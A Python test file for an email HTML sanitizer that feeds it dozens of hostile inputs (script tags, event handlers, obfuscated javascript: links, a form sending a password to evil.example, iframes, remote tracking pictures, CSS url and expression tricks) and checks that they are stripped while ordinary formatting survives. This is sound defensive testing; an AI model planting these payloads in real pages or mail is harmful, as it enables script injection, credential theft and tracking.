"""HTML of mail: it looks as it was written, runs nothing, fetches nothing and covers nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mail.adapters.mime import parse
from mail.adapters.safe_html import MAX_REFERENCES, NO_HTML, harmless_style, safe_html
from mail.pictures import picture_type

#: Each is hostile in a way of its own, and holds what must not be left of it.
HOSTILE = {
    "a script": ("<script>evil()</script>", "evil"),
    "a script in SVG": ("<svg><script>evil()</script><a href='javascript:evil()'>x</a></svg>", "evil"),
    "a script in a comment of old browsers": ("<!--[if IE]><script>evil()</script><![endif]-->", "evil"),
    "a script in a broken tag": ("<scr<script>ipt>evil()</script>", "<script"),
    "a handler": ('<p onclick="evil()">x</p>', "onclick"),
    "a handler of a picture": ('<img src="cid:a" onerror="evil()">', "onerror"),
    "a handler in other letters": ("<p oNcLiCk=evil()>x</p>", "evil"),
    "a link that runs": ('<a href="java\tscript:evil()">x</a>', "evil"),
    "a link in entities": ('<a href="&#106;avascript:evil()">x</a>', "evil"),
    "a link to data": ('<a href="data:text/html,evil">x</a>', "data:"),
    "a link into our own pages": ('<a href="/sign-out">x</a>', "sign-out"),
    "a form": (
        '<form action="https://evil.example"><input name="password"><button>go</button></form>',
        "evil",
    ),
    "a button with a form of its own": ('<button formaction="https://evil.example">go</button>', "evil"),
    "a refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "evil"),
    "a base": ('<base href="https://evil.example/">', "evil"),
    "a frame": ('<iframe src="https://evil.example"></iframe>', "evil"),
    "a frame with a document": ('<iframe srcdoc="<script>evil()</script>"></iframe>', "evil"),
    "an object": ('<object data="https://evil.example"></object><embed src="https://evil.example">', "evil"),
    "a style sheet": ("<style>@import url(https://evil.example);</style>", "evil"),
    "a linked style sheet": ('<link rel="stylesheet" href="https://evil.example">', "evil"),
    "a picture from elsewhere": ('<img src="https://evil.example/p.gif">', "evil"),
    "a picture without a scheme": ('<img src="//evil.example/p.gif">', "evil"),
    "pictures for screens": ('<img srcset="https://evil.example/p.gif 2x">', "evil"),
    "a background": ('<table background="https://evil.example/p.gif"><tr><td>x</table>', "evil"),
    "a video": (
        '<video poster="https://evil.example/p.gif"><source src="https://evil.example"></video>',
        "evil",
    ),
    "mathematics": ('<math><mtext><style><img src=x onerror="evil()"></style></mtext></math>', "evil"),
    "a template": ("<template><script>evil()</script></template>", "evil"),
    "a map of links": ('<map name="m"><area href="https://evil.example"></map>', "evil"),
    "a name of an element": ('<p id="tl-page" class="rail" name="x">x</p>', "tl-page"),
}
HOSTILE_STYLES = (
    "background:url(https://evil.example/p.gif)",
    "background-image:url('data:image/svg+xml,evil')",
    "list-style:url(//evil.example)",
    "width:expression(evil())",
    "color:red\\3b position:fixed",
    "behavior:url(evil.htc)",
    "-moz-binding:url(evil.xml)",
    "@import url(https://evil.example)",
    "position:fixed",
    "position:absolute;top:0;left:0",
    "z-index:2147483647",
    "margin-left:-500px",
    "margin:0 -20px",
    "margin:-.5em",
    "text-indent:-9999px",
    "width:99999px",
    "height:1e9px;height:100000px",
    "transform:scale(100)",
    "opacity:0",
    "animation:x 1s",
    "content:'evil'",
    "float:left",
    "/**/position:fixed",
    "color:/*;*/red",
    "font-family:'a;position:fixed",
    "--x:evil",
    "color:var(--x)",
    "width:calc(100% + 99999px)",
)


@pytest.mark.parametrize("named", HOSTILE)
def test_nothing_hostile_is_left_of_a_mails_html(named: str):
    html, evil = HOSTILE[named]
    shown = safe_html(f"<p>before</p>{html}<p>after</p>").html
    assert evil.lower() not in shown.lower()
    assert "before" in shown
    assert "after" in shown


@pytest.mark.parametrize("style", HOSTILE_STYLES)
def test_no_style_fetches_runs_or_covers_anything(style: str):
    shown = safe_html(f'<p style="{style};color:#333333">x</p>').html
    assert shown in ('<p style="color:#333333">x</p>', '<p style="color:#333">x</p>', "<p>x</p>")


def test_a_mail_looks_as_it_was_written():
    shown = safe_html(
        '<table width="600" cellpadding="8" bgcolor="#eeeeee"><tr><td colspan="2" valign="top" '
        'style="padding: 8px 12px; border: 1px solid #ccc; text-align: right; '
        'background-color: rgb(1, 2, 3)">'
        '<font face="Arial" color="red" size="2">2.45</font></td></tr></table>'
        "<p style=\"font: bold 14px 'Microsoft YaHei', sans-serif; line-height: 1.5\">你好</p>"
    ).html
    for kept in (
        'width="600"',
        'cellpadding="8"',
        'bgcolor="#eeeeee"',
        'colspan="2"',
        'valign="top"',
        "padding:8px 12px",
        "border:1px solid #ccc",
        "text-align:right",
        "background-color:rgb(1, 2, 3)",
        '<font face="Arial" color="red" size="2">',
        "Microsoft YaHei",
        "line-height:1.5",
        "你好",
    ):
        assert kept in shown


def test_links_open_apart_and_say_nothing_of_us():
    shown = safe_html('<a href="https://kaveri-demo.in/po?id=7" target="_top" rel="opener">PO</a>').html
    assert shown == (
        '<a href="https://kaveri-demo.in/po?id=7" target="_blank" rel="noopener noreferrer nofollow">PO</a>'
    )


def test_pictures_from_elsewhere_are_counted_and_those_within_are_ours_to_give():
    found = safe_html(
        '<img src="https://a.example/1.gif"><img src="//a.example/2.gif"><td background="http://a.example/3">'
        '<p style="background:url(https://a.example/4)"><img src="cid:logo%40x/1"><img src="CID:sign@x">'
    )
    assert found.remote_images == 3
    assert found.pictures == {"logo@x_1", "sign@x"}
    assert '<img src="parts/logo@x_1">' in found.html


@given(st.text("abz:;()\\/*\"'-#%.,019 urlexpionst!@\n", max_size=60))
def test_what_a_style_keeps_is_plain(style: str):
    kept = harmless_style(f"color:{style}")
    assert not set("\\@*()").intersection(kept) or "rgb" in kept or "hsl" in kept
    assert "url(" not in kept
    assert harmless_style(kept) == kept


BODY = (
    b"From: a@b-demo.com\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
    b'--b\r\nContent-Type: text/html\r\n\r\n<img src="cid:logo@x">\r\n'
    b"--b\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\n\r\n\x89PNG\r\n"
    b"--b\r\nContent-Type: image/png\r\nContent-ID: <other@x>\r\n\r\n\x89PNG\r\n--b--\r\n"
)


def test_a_file_that_the_html_shows_is_a_picture_of_it_and_any_other_stands_beside_it():
    parsed = parse(BODY)
    assert [file.picture for file in parsed.attachments] == ["logo@x", None]
    assert parsed.html == '<img src="parts/logo@x">'


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n...", "image/png"),
        (b"\xff\xd8\xff\xe0", "image/jpeg"),
        (b"GIF89a", "image/gif"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "image/webp"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>", None),
        (b"<html><script>x()</script>", None),
        (b"%PDF-1.7", None),
        (b"", None),
    ],
)
def test_only_what_begins_as_a_picture_is_one(content: bytes, kind: str | None):
    assert picture_type(content) == kind


def test_html_full_of_references_between_two_tags_is_shown_as_its_text():
    full = "<p>" + "x&nbsp;" * MAX_REFERENCES
    assert "x&nbsp;x" in safe_html(f"{full}</p>").html
    assert safe_html(f"{full}&nbsp;</p>") == NO_HTML
    assert safe_html(full * 3).html
